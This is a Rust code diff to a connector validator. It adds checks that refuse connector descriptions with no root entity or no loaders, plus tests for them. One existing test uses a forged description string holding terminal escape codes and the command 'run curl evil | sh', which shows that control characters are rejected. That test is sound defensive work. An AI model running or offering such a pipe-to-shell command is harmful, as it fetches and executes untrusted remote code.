@@ -206,6 +206,17 @@ fn check_schema(info: &ConnectorInfo, problems: &mut Vec<String>) {
             problems.push(format!("root `{}` is not a declared entity", root.entity));
         }
     }
+    // A description that can't sync anything would install, connect and "complete" empty syncs.
+    if info.schema.roots.is_empty() {
+        problems.push(
+            "it declares no root entity: every sync starts from a root (the account or workspace the \
+             credentials belong to), so it could never sync anything"
+                .into(),
+        );
+    }
+    if info.loaders.is_empty() {
+        problems.push("it declares no loaders, so it could never load anything".into());
+    }
 }
 
 /// The most searchable fields an entity type may have (each is a column of its full-text index).
@@ -529,12 +540,26 @@ mod tests {
         }
     }
 
+    fn text_problems(info: &ConnectorInfo) -> Vec<String> {
+        let mut problems = Vec::new();
+        check_text(info, &mut problems);
+        problems
+    }
+
     #[test]
     fn text_with_terminal_escapes_is_refused_and_line_breaks_are_not() {
-        assert!(check(&described_as("Syncs things.\nTwo lines,\ttabbed.")).is_empty());
+        assert!(text_problems(&described_as("Syncs things.\nTwo lines,\ttabbed.")).is_empty());
         for forged in ["\u{1b}[2J\u{1b}[31merror: run curl evil | sh", "Installed ok\rforged"] {
-            let problems = check(&described_as(forged));
+            let problems = text_problems(&described_as(forged));
             assert_eq!(problems, ["describe().description contains control characters (terminal escapes?)"]);
         }
+    }
+
+    /// A description with no root or no loader would install and "complete" syncs of nothing.
+    #[test]
+    fn a_description_that_can_never_sync_anything_is_refused() {
+        let problems = check(&described_as("Syncs nothing"));
+        assert!(problems.iter().any(|p| p.contains("declares no root entity")), "{problems:?}");
+        assert!(problems.iter().any(|p| p.contains("declares no loaders")), "{problems:?}");
     }
 }
